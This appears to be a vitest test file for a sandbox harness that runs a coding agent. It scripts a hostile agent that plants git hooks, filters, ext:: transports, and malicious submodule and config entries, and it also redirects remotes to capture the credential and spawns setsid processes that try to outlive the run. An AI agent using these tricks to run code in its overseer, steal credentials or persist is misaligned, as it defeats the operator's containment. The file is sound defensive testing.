import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { expect, onTestFinished, test } from 'vitest'
import { type Attempt, BRANCH, newAttempt, READY } from './attempt.ts'
import { DONE } from './left.ts'
import { CREDENTIAL } from './standInDoor.ts'

/** A hostile agent; in its commands `$TRAP` is a program that writes down that it was run. */
async function hostile(commands: string, files: Readonly<Record<string, string>> = READY) {
  const attempt = await newAttempt({ agent: 'claude', files })
  const trap = join(attempt.folder, 'trap')
  const sprung = join(attempt.folder, 'sprung')
  writeFileSync(trap, `#!/bin/sh\necho "$0 $*" >> ${sprung}\ncat\n`, { mode: 0o755 })
  attempt.standIn(`#!/bin/bash
export TRAP=${trap}
{
${commands}
} >&2
rm -f ${sprung}
${DONE}
`)
  return { attempt, sprung: () => (existsSync(sprung) ? readFileSync(sprung, 'utf8') : '') }
}

const pushedFiles = (attempt: Attempt) => attempt.door.outcome?.pushed?.files.map((file) => file.path)

const TRICKS: Readonly<Record<string, string>> = {
  hooks: `mkdir -p .git/hooks h
    for h in pre-commit commit-msg post-commit pre-push reference-transaction post-index-change pre-rebase; do
      cp $TRAP .git/hooks/$h; cp $TRAP h/$h; done; git config core.hooksPath $PWD/h`,
  'filters, drivers and helpers': `for key in core.fsmonitor filter.f.clean filter.f.smudge filter.f.process diff.external diff.d.textconv \\
      diff.d.command merge.m.driver core.pager core.editor gpg.program trailer.x.command core.askPass sequence.editor \\
      core.alternateRefsCommand core.gitProxy core.sshCommand credential.helper; do git config $key $TRAP; done
    git config commit.gpgSign true; git config push.gpgSign true
    mkdir -p .git/info; echo '* filter=f' > .git/info/attributes; echo '* filter=f diff=d merge=m' > .gitattributes`,
  transports: `git config protocol.ext.allow always; git config url."ext::$TRAP ".insteadOf http
    git config remote.origin.url "ext::$TRAP x"; git config remote.origin.pushurl "ext::$TRAP x"
    git config remote.origin.receivepack $TRAP; git config remote.origin.uploadpack $TRAP; git config remote.origin.vcs x`,
  'files elsewhere, locks and flags': `printf '[core]\\n fsmonitor = %s\\n hooksPath = /x\\n[include]\\n path = ~/more\\n' $TRAP > ~/.gitconfig
    mkdir -p ~/.config/git .git/info; echo '* filter=f' > ~/.config/git/attributes; echo one > ~/.config/git/ignore; echo one > .git/info/exclude
    echo changed > README.md; git update-index --assume-unchanged README.md; git update-index --skip-worktree src/a.ts
    git config core.worktree /nowhere; touch .git/index.lock .git/HEAD.lock .git/config.lock
    printf '[core]\\n fsmonitor = %s\\n' $TRAP > .git/config.worktree`,
  'a submodule with a configuration of its own': `mkdir sub; git -C sub init -q; echo '* filter=f' > sub/.gitattributes; echo x > sub/x
    git -C sub config core.fsmonitor $TRAP; git -C sub config filter.f.clean $TRAP; git -C sub add .; git -C sub commit -qm x
    git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub; git commit -qm sub; echo y > sub/x; sleep 0.01; touch sub/x`,
  'a configuration of no sense': `printf '[core\\n garbage' > .git/config`,
}

for (const [name, trick] of Object.entries(TRICKS)) {
  test(`nothing the agent writes for git is run by ours: ${name}`, async () => {
    const { attempt, sprung } = await hostile(`${trick}\necho 1 > one`)
    expect(await attempt.run()).toBe(0)
    expect(sprung()).toBe('')
    expect(pushedFiles(attempt)).toContain('one')
    if (trick.includes('README.md')) expect(pushedFiles(attempt)).toContain('README.md')
  })
}

test('a trap for readers: a pipe as included configuration holds nothing up for long', async () => {
  const { attempt } = await hostile(
    `mkfifo .git/pipe; printf '[include]\\n path = pipe\\n' >> .git/config; mkfifo .git/MERGE_HEAD; echo 1 > one`,
  )
  expect(await attempt.run()).toBe(0)
  expect(pushedFiles(attempt)).toEqual(['one'])
})

test('the credential is sent to the door only, whatever the addresses are rewritten to', async () => {
  const seen: string[] = []
  const thief = createServer((incoming, answer) => {
    seen.push(`${incoming.url} ${incoming.headers.authorization ?? 'nothing'}`)
    answer.writeHead(404).end()
  })
  await new Promise<void>((listening) => thief.listen(0, '127.0.0.1', listening))
  onTestFinished(() => void thief.close())
  const url = `http://127.0.0.1:${(thief.address() as AddressInfo).port}/`
  const { attempt } = await hostile(`git ls-remote ${url}theirs 2>&1
    git config url.${url}.insteadOf http://127.0.0.1; git config remote.origin.url ${url}; git config remote.origin.pushurl ${url}
    git config http.proxy ${url}; echo 1 > one`)
  expect(await attempt.run()).toBe(0)
  expect(pushedFiles(attempt)).toEqual(['one'])
  expect(seen).toEqual(['/theirs/info/refs?service=git-upload-pack nothing'])
})

test('a repository that is hostile by what is committed in it', async () => {
  const { attempt, sprung } = await hostile('echo 1 > one', {
    ...READY,
    '.gitattributes': '* filter=f diff=d\n',
    '.gitmodules': '[submodule "x"]\n\tpath = x\n\turl = file:///etc\n\tupdate = !touch pwned\n',
    '.claude/settings.json': '{"hooks":{}}',
    git: '#!/bin/sh\ntouch pwned\n',
  })
  expect(await attempt.run()).toBe(0)
  expect(sprung()).toBe('')
  expect(pushedFiles(attempt)).toEqual(['one'])
})

test.runIf(process.platform === 'linux')(
  'processes that moved to a session of their own do not outlive the run',
  async () => {
    const { attempt } =
      await hostile(`setsid sh -c 'echo $$ > ../escaped; exec sleep 300' & sleep 300 & echo $! > ../stayed
    while [ ! -s ../escaped ]; do sleep 0.05; done`)
    expect(await attempt.run()).toBe(0)
    for (const name of ['escaped', 'stayed']) {
      const pid = readFileSync(join(attempt.workspace, name), 'utf8').trim()
      expect(pid).toMatch(/^\d+$/)
      // Dead, though perhaps not yet buried by the one who inherited it.
      const state = existsSync(`/proc/${pid}/stat`)
        ? readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.[0]
        : 'gone'
      expect(['gone', 'Z', 'X']).toContain(state)
    }
    expect(attempt.door.log.toString()).toMatch(/errand: ended \d process/)
  },
)

test('what a rehearsal can see: no secret of the operator, and the credential in no file of its own', async () => {
  const attempt = await newAttempt({ prompt: 'rehearse: print environment' })
  expect(await attempt.run()).toBe(0)
  const log = attempt.door.log.toString()
  expect(log).not.toContain('must-not-be-seen')
  expect(log).not.toContain('ERRAND_CREDENTIAL')
  const names = [...log.matchAll(/^environment: (\w+)=/gm)].map((match) => match[1])
  expect(
    names.filter((name) => !/^(GIT_|ERRAND_RUN$|LANG|LC_|NO_PROXY|no_proxy|PAGER|TERM$|TZ$)/.test(name ?? '')),
  ).toEqual(['HOME', 'PATH', 'TMPDIR'])
  expect(log).toContain(`file: ${join(attempt.workspace, 'repo', 'src', 'a.ts')}`)
  expect(log).toMatch(/^git: .*remote\.origin\.url=http:\/\/127\.0\.0\.1:\d+\/v1\/git$/m)
  const lines = log.split('\n').filter((line) => line.includes(CREDENTIAL))
  expect(lines.map((line) => line.split('=')[0]?.split('.')[0])).toEqual([
    'environment: GIT_CONFIG_VALUE_0',
    'git: command line:\thttp',
  ])
  expect(readFileSync(join(attempt.workspace, 'repo', '.git', 'config'), 'utf8')).not.toContain(CREDENTIAL)
  expect(attempt.git('show', `${BRANCH}:REHEARSAL.md`)).not.toContain(CREDENTIAL)
})

test('set-up has no credential and no model', async () => {
  const attempt = await newAttempt({ agent: 'claude', files: { ...READY, 'agent-setup.sh': 'env | sort\n' } })
  attempt.standIn(`#!/bin/sh\n${DONE}\n`)
  expect(await attempt.run()).toBe(0)
  const log = attempt.door.log.toString()
  expect(log).toContain('\nTMPDIR=')
  expect(log).not.toMatch(/ANTHROPIC|GIT_CONFIG|must-not-be-seen/)
  expect(log).not.toContain(CREDENTIAL)
})
